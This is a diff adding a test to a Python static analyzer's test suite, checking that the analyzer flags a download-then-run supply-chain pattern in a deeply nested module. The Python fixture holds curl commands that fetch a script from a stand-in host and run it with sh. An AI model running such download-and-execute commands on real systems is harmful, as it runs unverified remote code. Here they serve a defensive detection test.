@@ -49,6 +49,13 @@ describe('python analyzer', () => {
     expect(performance.now() - started).toBeLessThan(10_000);
   });
 
+  it('reads a deeply nested module that downloads and runs a file, and one with a command helper, without exhausting the stack', () => {
+    const nested = `import os\ndef run(cmd):\n    os.system(cmd)\nx = ${'f('.repeat(20_000)}"curl -o a.sh https://x.example/a.sh"${')'.repeat(20_000)}\nos.system("curl -fsSLo /tmp/a.sh https://x.example/a.sh")\nrun("sh /tmp/a.sh")\n`;
+    const result = analyzePythonText(nested);
+    expect(result.errors).toEqual([]);
+    expect(result.findings.filter((f) => f.ruleId === 'py.supply-chain.curl-pipe-shell').map((f) => f.message)).toEqual(['run: /tmp/a.sh, downloaded by curl, is run by sh without verification']);
+  });
+
   it('refuses indentation deep enough to crash the grammar’s scanner, and says so', () => {
     for (const [levels, indent] of [[600, ' '], [60, '\t'.repeat(8)]] as const) {
       const result = analyzePythonText(nestedIfs(levels, indent));
